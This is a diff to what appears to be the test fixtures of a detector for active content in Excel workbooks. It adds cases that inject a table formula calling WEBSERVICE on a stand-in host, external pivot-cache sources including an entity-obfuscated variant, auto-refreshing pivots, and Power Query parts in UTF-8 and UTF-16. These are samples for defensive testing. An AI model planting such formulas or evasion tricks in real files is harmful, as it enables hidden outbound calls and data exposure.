@@ -281,6 +281,36 @@ ACTIVE: dict[str, tuple[tuple[Change, ...], str]] = {
     "relation that nobody writes": ((
         added("xl/p.xml", b"<a/>", "application/xml"), related(BOOK, "http://evil.example/relations/run", "p.xml"),
     ), "xl/p.xml: a relation that no known program writes (run)"),
+    "formula of a table": ((
+        changed(
+            "xl/tables/table1.xml",
+            lambda xml: re.sub(
+                r'<tableColumn id="2" name="([^"]*)"/>',
+                r'<tableColumn id="2" name="\1"><calculatedColumnFormula>WEBSERVICE("http://e.example")</calculatedColumnFormula></tableColumn>',
+                xml,
+            ),
+        ),
+    ), "xl/tables/table1.xml: a formula in a table"),
+    "pivot table over another source": ((
+        added("xl/pc.xml", b'<pivotCacheDefinition><cacheSource type="external"/></pivotCacheDefinition>', spreadsheet("pivotCacheDefinition")),
+        related(BOOK, "pivotCacheDefinition", "pc.xml"),
+    ), "xl/pc.xml: a data connection"),
+    "pivot table over a source in other words": ((
+        added("xl/pc.xml", b'<x:pivotCacheDefinition><x:cacheSource  connectionId="1" type="&#101;xternal"/></x:pivotCacheDefinition>', spreadsheet("pivotCacheDefinition")),
+        related(BOOK, "pivotCacheDefinition", "pc.xml"),
+    ), "xl/pc.xml: a data connection"),
+    "pivot table that refreshes itself": ((
+        added("xl/pc.xml", b"<pivotCacheDefinition refreshOnLoad = '1'><cacheSource type='worksheet'/></pivotCacheDefinition>", spreadsheet("pivotCacheDefinition")),
+        related(BOOK, "pivotCacheDefinition", "pc.xml"),
+    ), "xl/pc.xml: a pivot table that is refreshed"),
+    "Power Query": ((
+        added("customXml/item1.xml", b'<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AA</DataMashup>', "application/xml"),
+        related(BOOK, "customXml", "../customXml/item1.xml"),
+    ), "customXml/item1.xml: a query of Power Query"),
+    "Power Query in UTF-16": ((
+        added("customXml/item1.xml", '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AA</DataMashup>'.encode("utf-16"), "text/xml"),
+        related(BOOK, "customXml", "../customXml/item1.xml"),
+    ), "customXml/item1.xml: a query of Power Query"),
 }  # fmt: skip
 
 
